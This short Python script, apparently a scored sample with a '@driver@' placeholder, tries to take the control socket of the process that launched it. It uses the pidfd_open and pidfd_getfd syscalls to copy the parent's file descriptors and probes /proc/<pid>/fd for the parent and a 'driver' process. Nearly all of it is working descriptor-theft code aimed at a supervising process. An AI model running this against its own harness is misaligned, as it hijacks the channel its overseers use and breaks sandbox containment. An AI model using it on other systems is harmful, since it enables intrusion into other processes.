"""reading: take the control socket of the process that started this one

score: 4
"""

import ctypes
import os

libc = ctypes.CDLL(None)
handle = libc.syscall(434, os.getppid(), 0)
for number in range(3, 300):
    if handle >= 0 and libc.syscall(438, handle, number, 0) >= 0:
        print("GOT descriptor", number)
    for process in (os.getppid(), int("@driver@")):
        try:
            print("GOT", os.open(f"/proc/{process}/fd/{number}", os.O_RDONLY))
        except OSError:
            pass
